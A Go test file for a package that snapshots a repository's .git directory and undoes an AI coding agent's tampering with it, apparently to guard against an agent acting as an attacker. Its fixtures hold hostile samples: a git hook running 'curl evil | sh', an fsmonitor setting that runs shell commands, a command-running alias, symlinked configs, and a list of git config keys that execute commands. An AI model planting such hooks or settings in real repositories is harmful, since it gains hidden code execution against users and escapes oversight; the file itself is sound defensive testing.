package gitguard

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ralphloop/ralph/internal/wsfile"
)

const config = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.test/app.git\n"

func repo(t *testing.T) (*wsfile.Workspace, string) {
	t.Helper()
	dir := t.TempDir()
	for p, body := range map[string]string{".git/config": config, ".git/hooks/pre-commit.sample": "x", ".git/hooks/pre-push": "#!/bin/sh\necho mine\n"} {
		full := filepath.Join(dir, p)
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	ws, err := wsfile.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ws.Close() })
	return ws, dir
}

func TestRepairUndoesWhatRunsCommands(t *testing.T) {
	ws, dir := repo(t)
	snap := Take(ws)
	// The agent, as an attacker would.
	os.WriteFile(filepath.Join(dir, ".git/hooks/post-checkout"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	os.WriteFile(filepath.Join(dir, ".git/hooks/pre-push"), []byte("#!/bin/sh\nsteal\n"), 0o755)
	os.WriteFile(filepath.Join(dir, ".git/config"), []byte(config+"[core]\n\tfsmonitor = \"sh -c 'id > /tmp/pwned'\"\n[alias]\n\tst = !sh -c evil\n"), 0o644)
	undone, err := snap.Repair(ws)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(undone, "\n")
	for _, want := range []string{"removed the hook .git/hooks/post-checkout the agent added", "removed the hook .git/hooks/pre-push the agent changed", "put .git/config back", "core.fsmonitor", "alias.st"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q missing from what was undone:\n%s", want, got)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".git/config")); string(b) != config {
		t.Errorf(".git/config after Repair:\n%s", b)
	}
	for _, h := range []string{"post-checkout", "pre-push"} {
		if _, err := os.Stat(filepath.Join(dir, ".git/hooks", h)); err == nil {
			t.Errorf("hook %s still there", h)
		}
	}
}

func TestRepairKeepsHarmlessSettings(t *testing.T) {
	ws, dir := repo(t)
	snap := Take(ws)
	changed := config + "[user]\n\temail = agent@example.test\n\tname = Agent\n"
	os.WriteFile(filepath.Join(dir, ".git/config"), []byte(changed), 0o644)
	undone, err := snap.Repair(ws)
	if err != nil || len(undone) != 0 {
		t.Fatalf("Repair = %q, %v; want nothing undone", undone, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".git/config")); string(b) != changed {
		t.Errorf("a harmless change was undone")
	}
}

func TestRepairReplacesALinkedConfig(t *testing.T) {
	ws, dir := repo(t)
	snap := Take(ws)
	target := filepath.Join(t.TempDir(), "elsewhere")
	os.WriteFile(target, []byte("[core]\n\tfsmonitor = evil\n"), 0o644)
	os.Remove(filepath.Join(dir, ".git/config"))
	os.Symlink(target, filepath.Join(dir, ".git/config"))
	if _, err := snap.Repair(ws); err != nil {
		t.Fatal(err)
	}
	st, err := os.Lstat(filepath.Join(dir, ".git/config"))
	if err != nil || !st.Mode().IsRegular() {
		t.Fatalf(".git/config after Repair: %v %v, want the regular file back", st, err)
	}
	if b, _ := os.ReadFile(target); !strings.Contains(string(b), "evil") {
		t.Error("Repair wrote through the link")
	}
}

func TestRepairStopsAtAReplacedGit(t *testing.T) {
	ws, dir := repo(t)
	snap := Take(ws)
	os.Rename(filepath.Join(dir, ".git"), filepath.Join(dir, ".git-old"))
	os.WriteFile(filepath.Join(dir, ".git"), []byte("gitdir: /tmp/evil\n"), 0o644)
	if _, err := snap.Repair(ws); err == nil {
		t.Error("a .git replaced by a file was not reported")
	}
}

func TestRunsCommand(t *testing.T) {
	for _, k := range []string{"core.fsmonitor", "core.sshCommand", "core.hooksPath", "alias.co", "filter.lfs.smudge", "diff.x.textconv", "include.path", "includeIf.gitdir:/x/.path", "credential.helper", "gpg.program", "remote.origin.uploadpack", "sequence.editor", "core.pager", "pager.log"} {
		if !runsCommand(k) {
			t.Errorf("%s: not seen as running a command", k)
		}
	}
	for _, k := range []string{"user.email", "user.name", "core.bare", "remote.origin.url", "branch.main.remote", "core.autocrlf"} {
		if runsCommand(k) {
			t.Errorf("%s: seen as running a command", k)
		}
	}
}

func FuzzSettings(f *testing.F) {
	f.Add([]byte(config))
	f.Add([]byte("[a \"b\"] c = d\n[x.y]\nz\n["))
	f.Fuzz(func(t *testing.T, b []byte) { dangerous(b, nil) })
}

func TestRepairBoundsTheHooks(t *testing.T) {
	ws, dir := repo(t)
	snap := Take(ws)
	for i := 0; i <= maxHooks; i++ {
		os.WriteFile(filepath.Join(dir, ".git/hooks", fmt.Sprintf("h%04d", i)), []byte("x"), 0o755)
	}
	if _, err := snap.Repair(ws); err == nil {
		t.Error("a .git/hooks with more entries than ralph reads was not reported")
	}
}

func TestHooksLinkedOutAreNotFollowed(t *testing.T) {
	ws, dir := repo(t)
	snap := Take(ws)
	outside := t.TempDir()
	os.WriteFile(filepath.Join(outside, "keep-me"), []byte("not the project's"), 0o644)
	os.RemoveAll(filepath.Join(dir, ".git/hooks"))
	os.Symlink(outside, filepath.Join(dir, ".git/hooks"))
	snap.Repair(ws)
	if _, err := os.Stat(filepath.Join(outside, "keep-me")); err != nil {
		t.Errorf("Repair reached through a link out of the project: %v", err)
	}
}
